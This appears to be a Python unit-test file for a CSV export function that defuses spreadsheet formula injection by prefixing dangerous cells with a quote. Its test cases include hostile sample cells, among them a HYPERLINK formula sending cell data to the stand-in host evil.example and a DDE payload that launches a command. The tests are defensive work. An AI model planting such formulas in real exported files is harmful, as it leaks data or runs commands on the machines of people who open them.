"""The CSV files the platform writes: no cell a spreadsheet would run as a formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from importer_service.adapters.sources.report import neutralise, write_csv

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        ),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1+1", "'\r=1+1"),
        ("-2+3", "'-2+3"),
        ("+33612345678", "'+33612345678"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell: str, written: str) -> None:
    assert neutralise(cell) == written


@pytest.mark.parametrize(
    "cell", ["", "0612345678", "Jean-Marie", "a=b", " =1", "'already text", "Zoë @home"]
)
def test_other_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_written_rows_are_quoted_neutralised_and_read_back() -> None:
    rows = [
        ["row", "phone", "reason"],
        ["2", "+33 6 12", 'Says "hi", then\nleaves'],
        ["3", "=1+1", "@SUM(A1:A9)"],
        ["4", "", "-"],
    ]
    out = io.StringIO(newline="")
    write_csv(iter(rows), out)
    text = out.getvalue()
    assert text.startswith('"row","phone","reason"\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["row", "phone", "reason"],
        ["2", "'+33 6 12", 'Says "hi", then\nleaves'],
        ["3", "'=1+1", "'@SUM(A1:A9)"],
        ["4", "", "'-"],
    ]


def test_no_written_cell_starts_with_a_formula_character() -> None:
    hostile = ["=", "+", "-", "@", "\t", "\r"]
    out = io.StringIO(newline="")
    write_csv([[start + "1" for start in hostile]], out)
    for cell in next(csv.reader(io.StringIO(out.getvalue(), newline=""))):
        assert not cell.startswith(tuple(hostile))
